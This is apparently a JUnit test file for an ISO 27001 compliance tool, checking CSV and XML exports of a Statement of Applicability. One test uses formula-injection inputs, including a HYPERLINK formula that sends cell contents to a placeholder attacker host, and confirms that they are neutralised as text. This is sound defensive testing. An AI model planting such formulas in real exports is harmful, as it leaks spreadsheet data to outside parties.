package io.annexa.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.annexa.ProjectFiles;
import io.annexa.control.Applicability;
import io.annexa.control.ControlCatalog;
import io.annexa.control.Implementation;
import io.annexa.control.MonitoringRule;
import io.annexa.control.StatementOfApplicability;
import io.annexa.control.xml.SafeXml;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.stream.StreamSource;
import javax.xml.validation.Validator;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

/** The Statement of Applicability as CSV and as XML: what a spreadsheet or an auditor's tool reads back. */
class SoaExportTest {

    private static final ControlCatalog CATALOG = ControlCatalog.load();
    private static final Instant NOW = Instant.parse("2026-03-01T12:00:00Z");
    private static final Instant EVALUATED = Instant.parse("2026-03-01T11:59:58.123456Z");

    private static final String AWKWARD_JUSTIFICATION = "No removable media, \"none\" at all;\nUSB storage is disabled, see policy 4.2\r\nend";
    private static final String AWKWARD_NOTES = "Owner: IT, \"ops\" <team> & friends\nsecond line, with comma";

    private static StatementOfApplicability soa() {
        Map<String, Applicability> decisions = Map.of(
                "7.10", new Applicability("7.10", false, AWKWARD_JUSTIFICATION, Implementation.NOT_STARTED, ""),
                "8.5", new Applicability("8.5", true, "", Implementation.IMPLEMENTED, AWKWARD_NOTES),
                "5.7", new Applicability("5.7", false, "", null, ""),
                "8.2", new Applicability("8.2", false, "No privileged accounts.", null, ""));
        List<MonitoringRule> rules = List.of(
                new MonitoringRule("sshd_root_login_disabled", List.of("8.5", "8.2"), EVALUATED),
                new MonitoringRule("sshd_password_authentication_disabled", List.of("8.5"), null));
        Map<String, List<Long>> open = Map.of("8.5", List.of(12L, 14L));
        return StatementOfApplicability.of(CATALOG, decisions, rules, open, NOW);
    }

    // ---------------------------------------------------------------- CSV

    @Test
    void csvParsesBackWithHeaderAnd93Records() throws IOException {
        StatementOfApplicability soa = soa();
        List<CSVRecord> records = parseCsv(SoaCsv.write(soa));

        assertThat(records).hasSize(93);
        assertThat(records).extracting(r -> r.get("control"))
                .containsExactlyElementsOf(soa.entries().stream().map(e -> e.control().id()).toList());
        assertThat(records).allSatisfy(r -> assertThat(r.size()).isEqualTo(SoaCsv.HEADER.length));

        CSVRecord media = record(records, "7.10");
        assertThat(media.get("annex_a")).isEqualTo("A.7.10");
        assertThat(media.get("theme")).isEqualTo("physical");
        assertThat(media.get("applicable")).isEqualTo("no");
        assertThat(media.get("justification")).isEqualTo(AWKWARD_JUSTIFICATION);
        assertThat(media.get("implementation")).isEqualTo("not_started");
        assertThat(media.get("status")).isEqualTo("not_applicable");
        assertThat(media.get("monitoring")).isEqualTo("manual");

        CSVRecord auth = record(records, "8.5");
        assertThat(auth.get("title")).isEqualTo("Secure authentication");
        assertThat(auth.get("applicable")).isEqualTo("yes");
        assertThat(auth.get("notes")).isEqualTo(AWKWARD_NOTES);
        assertThat(auth.get("implementation")).isEqualTo("implemented");
        assertThat(auth.get("monitoring")).isEqualTo("automated");
        assertThat(auth.get("rules")).isEqualTo("sshd_root_login_disabled; sshd_password_authentication_disabled");
        assertThat(auth.get("status")).isEqualTo("nonconforming");
        assertThat(auth.get("last_evaluated")).isEqualTo(EVALUATED.toString());
        assertThat(auth.get("open_nonconformities")).isEqualTo("12; 14");
        assertThat(auth.get("problems")).isEmpty();

        assertThat(record(records, "5.7").get("problems")).contains("5.7").contains("justification");
        assertThat(record(records, "8.2").get("problems")).contains("excluded").contains("sshd_root_login_disabled");
        assertThat(record(records, "8.2").get("monitoring")).isEqualTo("partial");
        assertThat(record(records, "5.1").get("status")).isEqualTo("not_evaluated");
        assertThat(record(records, "5.1").get("last_evaluated")).isEmpty();
    }

    @Test
    void csvTitlesWithCommasSurvive() throws IOException {
        List<CSVRecord> records = parseCsv(SoaCsv.write(soa()));
        List<String> titlesWithCommas = CATALOG.all().stream().map(c -> c.title()).filter(t -> t.contains(",")).toList();
        assertThat(titlesWithCommas).isNotEmpty();
        assertThat(records).extracting(r -> r.get("title"))
                .containsExactlyElementsOf(CATALOG.all().stream().map(c -> c.title()).toList());
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() throws IOException {
        Map<String, Applicability> decisions = Map.of(
                "7.10", new Applicability("7.10", false, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", null, "+1 not a sum"),
                "5.1", new Applicability("5.1", true, "", Implementation.IMPLEMENTED, "@SUM(1+1)"),
                "5.2", new Applicability("5.2", true, "", Implementation.IMPLEMENTED, "-2+3"),
                "5.3", new Applicability("5.3", true, "", Implementation.IMPLEMENTED, "a plain note = fine"));
        List<CSVRecord> records = parseCsv(SoaCsv.write(StatementOfApplicability.of(CATALOG, decisions, List.of(), Map.of(), NOW)));

        assertThat(record(records, "7.10").get("justification")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        assertThat(record(records, "7.10").get("notes")).isEqualTo("'+1 not a sum");
        assertThat(record(records, "5.1").get("notes")).isEqualTo("'@SUM(1+1)");
        assertThat(record(records, "5.2").get("notes")).isEqualTo("'-2+3");
        assertThat(record(records, "5.3").get("notes")).isEqualTo("a plain note = fine");
    }

    // ---------------------------------------------------------------- XML

    @Test
    void xmlValidatesAgainstThePublishedSchema() throws Exception {
        String xml = SoaXml.write(soa(), "http://localhost:8080/api/schemas/soa-1.xsd");
        validate(xml);
        assertThat(xml).contains("urn:annexa:soa:1 http://localhost:8080/api/schemas/soa-1.xsd");
    }

    @Test
    void xmlHoldsEveryControlAndTheProblems() throws Exception {
        StatementOfApplicability soa = soa();
        Document doc = parse(SoaXml.write(soa, "http://localhost/api/schemas/soa-1.xsd"));
        Element root = doc.getDocumentElement();

        assertThat(root.getLocalName()).isEqualTo("statementOfApplicability");
        assertThat(root.getNamespaceURI()).isEqualTo(SoaXml.NS);
        assertThat(root.getAttribute("standard")).isEqualTo("ISO/IEC 27001:2022");
        assertThat(Instant.parse(root.getAttribute("generatedAt"))).isEqualTo(NOW);

        List<Element> controls = children(root, "control");
        assertThat(controls).hasSize(93);
        assertThat(controls).extracting(c -> c.getAttribute("id"))
                .containsExactlyElementsOf(soa.entries().stream().map(e -> e.control().id()).toList());
        assertThat(children(root, "problem")).extracting(Node::getTextContent)
                .hasSize(2).containsExactlyElementsOf(soa.problems());

        Element media = control(controls, "7.10");
        assertThat(media.getAttribute("applicable")).isEqualTo("false");
        assertThat(media.getAttribute("status")).isEqualTo("not_applicable");
        assertThat(media.getAttribute("implementation")).isEqualTo("not_started");
        assertThat(text(media, "justification")).isEqualTo(AWKWARD_JUSTIFICATION);
        assertThat(children(media, "notes")).isEmpty();

        Element auth = control(controls, "8.5");
        assertThat(auth.getAttribute("annexA")).isEqualTo("A.8.5");
        assertThat(auth.getAttribute("theme")).isEqualTo("technological");
        assertThat(auth.getAttribute("monitoring")).isEqualTo("automated");
        assertThat(auth.getAttribute("status")).isEqualTo("nonconforming");
        assertThat(Instant.parse(auth.getAttribute("lastEvaluated"))).isEqualTo(EVALUATED);
        assertThat(text(auth, "title")).isEqualTo("Secure authentication");
        assertThat(text(auth, "notes")).isEqualTo(AWKWARD_NOTES);
        assertThat(children(auth, "justification")).isEmpty();
        assertThat(children(auth, "rule")).extracting(Node::getTextContent)
                .containsExactly("sshd_root_login_disabled", "sshd_password_authentication_disabled");
        assertThat(children(auth, "openNonconformity")).extracting(Node::getTextContent).containsExactly("12", "14");

        Element unjustified = control(controls, "5.7");
        assertThat(children(unjustified, "problem")).singleElement()
                .satisfies(p -> assertThat(p.getTextContent()).contains("justification"));
        Element plain = control(controls, "5.1");
        assertThat(plain.hasAttribute("implementation")).isFalse();
        assertThat(plain.hasAttribute("lastEvaluated")).isFalse();
        assertThat(plain.getAttribute("status")).isEqualTo("not_evaluated");
    }

    @Test
    void theDefaultStatementIsValidToo() throws Exception {
        String xml = SoaXml.write(StatementOfApplicability.of(CATALOG, Map.of(), List.of(), Map.of(), NOW), "soa-1.xsd");
        validate(xml);
        assertThat(children(parse(xml).getDocumentElement(), "control")).hasSize(93);
        assertThat(children(parse(xml).getDocumentElement(), "problem")).isEmpty();
    }

    // ---------------------------------------------------------------- helpers

    private static List<CSVRecord> parseCsv(String csv) throws IOException {
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertThat(parser.getHeaderNames()).containsExactly(SoaCsv.HEADER);
            return parser.getRecords();
        }
    }

    private static CSVRecord record(List<CSVRecord> records, String id) {
        return records.stream().filter(r -> r.get("control").equals(id)).findFirst().orElseThrow();
    }

    private static void validate(String xml) throws Exception {
        Path xsd = ProjectFiles.root().resolve("src/main/resources/schemas/soa-1.xsd");
        Validator validator = SafeXml.schema(xsd.toUri().toURL()).newValidator();
        validator.validate(new StreamSource(new StringReader(xml)));
    }

    private static Document parse(String xml) throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
    }

    private static List<Element> children(Element parent, String name) {
        List<Element> found = new ArrayList<>();
        NodeList nodes = parent.getChildNodes();
        for (int i = 0; i < nodes.getLength(); i++) {
            if (nodes.item(i) instanceof Element e && SoaXml.NS.equals(e.getNamespaceURI()) && name.equals(e.getLocalName())) {
                found.add(e);
            }
        }
        return found;
    }

    private static Element control(List<Element> controls, String id) {
        return controls.stream().filter(c -> c.getAttribute("id").equals(id)).findFirst().orElseThrow();
    }

    private static String text(Element parent, String name) {
        List<Element> found = children(parent, name);
        assertThat(found).as("<%s> in control %s", name, parent.getAttribute("id")).hasSize(1);
        return found.get(0).getTextContent();
    }
}
